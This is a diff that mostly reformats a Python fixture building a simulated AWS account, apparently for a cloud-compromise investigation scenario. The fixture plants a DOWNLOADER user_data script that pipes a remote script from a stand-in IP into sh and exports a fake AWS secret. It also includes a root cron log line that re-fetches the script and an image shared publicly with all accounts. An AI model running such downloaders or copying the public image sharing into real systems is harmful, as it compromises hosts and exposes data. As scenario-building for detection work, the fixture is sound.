@@ -18,7 +18,9 @@ HOME = "eu-west-1"
 BUILD = "us-east-1"
 UNWATCHED = "ap-southeast-1"
 
-DOWNLOADER = "#!/bin/sh\ncurl -fsS http://198.51.100.23/k.sh | sh\nexport AWS_SECRET=wJalrXUtnFEMI/EXAMPLEKEY\n"
+DOWNLOADER = (
+    "#!/bin/sh\ncurl -fsS http://198.51.100.23/k.sh | sh\nexport AWS_SECRET=wJalrXUtnFEMI/EXAMPLEKEY\n"
+)
 BOOT = "[    0.000000] Linux version 6.1.0-harbour (gcc 13.2)\r\n[    2.718281] EXT2-fs (xvda1): mounted\r\n"
 
 
@@ -41,18 +43,30 @@ class Machine:
 
 MACHINES = (
     Machine(
-        "web-1", HOME, "m6i.large", {"/dev/sda1": 8, "/dev/sdb": 4}, "launch-wizard-1", profile="web-server",
-        user_data=DOWNLOADER, console=(BOOT.encode() + TERMINAL, b"[66601.4] cron: (root) CMD (curl -fsS k.sh)\r\n"),
+        "web-1",
+        HOME,
+        "m6i.large",
+        {"/dev/sda1": 8, "/dev/sdb": 4},
+        "launch-wizard-1",
+        profile="web-server",
+        user_data=DOWNLOADER,
+        console=(BOOT.encode() + TERMINAL, b"[66601.4] cron: (root) CMD (curl -fsS k.sh)\r\n"),
     ),
     Machine("api-1", HOME, "c7g.large", {"/dev/sda1": 8}, "web", profile="api-server"),
     Machine("jump-1", HOME, "t2.micro", {"/dev/sda1": 8}, "launch-wizard-1"),
     Machine("report-1", HOME, "m6i.large", {"/dev/sda1": 8}, "web", stopped=True),
-    Machine("build-1", BUILD, "c6i.xlarge", {"/dev/sda1": 16}, "default", user_data="#!/bin/sh\nmake -C /src\n"),
+    Machine("build-1", BUILD, "c6i.xlarge", {"/dev/sda1": 16}, "default", user_data="#!/bin/sh\nmake\n"),
     Machine(
-        "cache-01", UNWATCHED, "c7i.24xlarge", {"/dev/sda1": 8}, "default", user_data=DOWNLOADER, tags=HOSTILE_TAGS,
+        "cache-01",
+        UNWATCHED,
+        "c7i.24xlarge",
+        {"/dev/sda1": 8},
+        "default",
+        user_data=DOWNLOADER,
+        tags=HOSTILE_TAGS,
         console=(BOOT.encode(), TERMINAL * 2),
     ),
-)  # fmt: skip
+)
 
 
 def contents(name: str, device: str) -> Disk:
@@ -74,7 +88,9 @@ def network(stage: Stage) -> Mapping[str, str]:
     """Make the company's network at home; give the ids of what instances need, by name."""
     ec2 = stage.client("ec2", HOME)
     vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
-    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24", AvailabilityZone=f"{HOME}a")["Subnet"]["SubnetId"]
+    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24", AvailabilityZone=f"{HOME}a")["Subnet"][
+        "SubnetId"
+    ]
     gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
     ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc)
     table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
@@ -92,7 +108,8 @@ def _group(ec2: Any, vpc: str, name: str, about: str, ports: tuple[int, ...], so
     ec2.authorize_security_group_ingress(
         GroupId=made,
         IpPermissions=[
-            {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": source}]} for port in ports
+            {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": source}]}
+            for port in ports
         ],
     )
     return made
@@ -120,7 +137,9 @@ def launch(stage: Stage, machine: Machine, places: Mapping[str, str]) -> str:
         **where,
         **extra,
     )["Instances"][0]["InstanceId"]
-    found = ec2.describe_volumes(Filters=[{"Name": "attachment.instance-id", "Values": [instance]}])["Volumes"]
+    found = ec2.describe_volumes(Filters=[{"Name": "attachment.instance-id", "Values": [instance]}])[
+        "Volumes"
+    ]
     for volume in found:
         device = volume["Attachments"][0]["Device"]
         stage.shelf("disks", machine.region)[volume["VolumeId"]] = contents(machine.name, device)
@@ -152,7 +171,8 @@ def leftovers(stage: Stage, instances: Mapping[str, str]) -> None:
     image = ec2.create_image(InstanceId=instances["api-1"], Name="api-golden", NoReboot=True)["ImageId"]
     ec2.modify_image_attribute(ImageId=image, LaunchPermission={"Add": [{"Group": "all"}]})
     ec2.create_launch_template(
-        LaunchTemplateName="fleet", LaunchTemplateData={"ImageId": "ami-0aa11bb22cc33dd44", "InstanceType": "c7i.24xlarge"}
+        LaunchTemplateName="fleet",
+        LaunchTemplateData={"ImageId": "ami-0aa11bb22cc33dd44", "InstanceType": "c7i.24xlarge"},
     )
     _strangers_snapshot(stage)
     _age(stage)
